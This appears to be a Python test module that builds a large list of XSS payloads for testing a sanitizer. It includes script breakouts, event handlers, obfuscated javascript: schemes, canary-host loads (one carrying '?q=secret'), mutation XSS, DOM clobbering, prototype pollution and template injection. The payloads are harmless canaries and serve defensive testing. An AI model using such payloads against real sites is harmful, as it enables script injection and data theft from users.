"""S-11: text that tries to run, to draw, to load or to lead away; none of it may be more than text in the studio.

Every payload that fires sets `window.__pwned` or asks CANARY. Collected by kind from what the usual cheat sheets
(OWASP's and PortSwigger's) hold, with tags, events and schemes multiplied out.
"""

from collections.abc import Iterator

CANARY = "http://canary.invalid"
RUN = "window.__pwned=1"

TAGS = ("img", "svg", "video", "audio", "iframe", "object", "embed", "input", "details", "body", "marquee", "math")
EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onstart", "onanimationend", "onpointerenter")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "blob:",
    "view-source:javascript:",
)


def payloads() -> list[str]:
    """Every one of them, each once."""
    return list(
        dict.fromkeys([*_scripts(), *_events(), *_links(), *_loads(), *_mutations(), *_clobbering(), *_templates()])
    )


def _scripts() -> Iterator[str]:
    for opening in (
        "<script>",
        "<SCRIPT>",
        "<script/x>",
        "<script\t>",
        "<script src=x>",
        "<svg><script>",
        "<math><script>",
    ):
        for before in ("", "'", '"', "-->", "</title>", "</textarea>", "</style>", "]]>"):
            yield f"{before}{opening}{RUN}</script>"


def _events() -> Iterator[str]:
    for tag in TAGS:
        for event in EVENTS:
            yield f"<{tag} src=x tabindex=1 autofocus {event}={RUN}>"


def _links() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{RUN}">look</a>'
        yield f"[look]({scheme}{RUN})"
        yield f"<iframe src='{scheme}<script>parent.{RUN}</script>'>"


def _loads() -> Iterator[str]:
    yield f"![seen]({CANARY}/md.png)"
    yield f"![seen]({CANARY}/md.png?q=secret 'title')"
    yield f"[![seen]({CANARY}/inner.png)]({CANARY}/outer)"
    yield f"<{CANARY}/auto>"
    for tag in ("img", "audio", "video", "source", "track", "embed", "iframe", "input type=image", "script"):
        yield f'<{tag} src="{CANARY}/load">'
    for tag in ("link rel=stylesheet", "link rel=prefetch", "link rel=preload as=image", "base", "area"):
        yield f'<{tag} href="{CANARY}/load">'
    for rule in ("background:url", "list-style:url", "cursor:url", "border-image:url", "content:url"):
        yield f"<p style=\"{rule}('{CANARY}/css')\">"
        yield f"<style>*{{{rule}('{CANARY}/css')}}</style>"
    yield f"<style>@import '{CANARY}/css';</style>"
    yield f'<meta http-equiv=refresh content="0;url={CANARY}/away">'
    yield f'<form action="{CANARY}/form"><button autofocus>send</button></form>'
    yield f'<svg><image href="{CANARY}/svg"/><use href="{CANARY}/use#x"/></svg>'
    yield f'<object data="{CANARY}/object"></object>'


def _mutations() -> Iterator[str]:
    inner = f"<img src=x onerror={RUN}>"
    for shell in (
        "<noscript><p title='</noscript>{}'>",
        "<svg></p><style><a id='</style>{}'>",
        "<math><mtext><table><mglyph><style><!--</style>{}",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<template>{}</template>",
        "<select><style></select>{}",
        "<table><caption><svg><title>{}</title></svg>",
        "<!--><x>{}-->",
        "<![CDATA[{}]]>",
        "<xmp></xmp>{}",
        "<plaintext>{}",
        "<svg><foreignObject>{}</foreignObject></svg>",
        "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    ):
        yield shell.replace("{}", inner)


def _clobbering() -> Iterator[str]:
    for name in ("location", "cookie", "body", "forms", "getElementById", "__proto__", "constructor", "pressrun"):
        yield f"<a id={name} href=javascript:{RUN}></a>"
        yield f"<img name={name}><form id={name}><input name=action></form>"
    yield '{"__proto__": {"polluted": true}}'


def _templates() -> Iterator[str]:
    code = "constructor.constructor('window.__pwned=1')()"
    for left, right in (
        ("{{", "}}"),
        ("${", "}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("[[", "]]"),
        ("{%", "%}"),
        ("`${", "}`"),
    ):
        yield f"{left}{code}{right}"
        yield f"{left}7*7{right}"
    yield "\u202egnp.exe\u202c"
    yield "<b>bold</b>\ufeff\u2028"
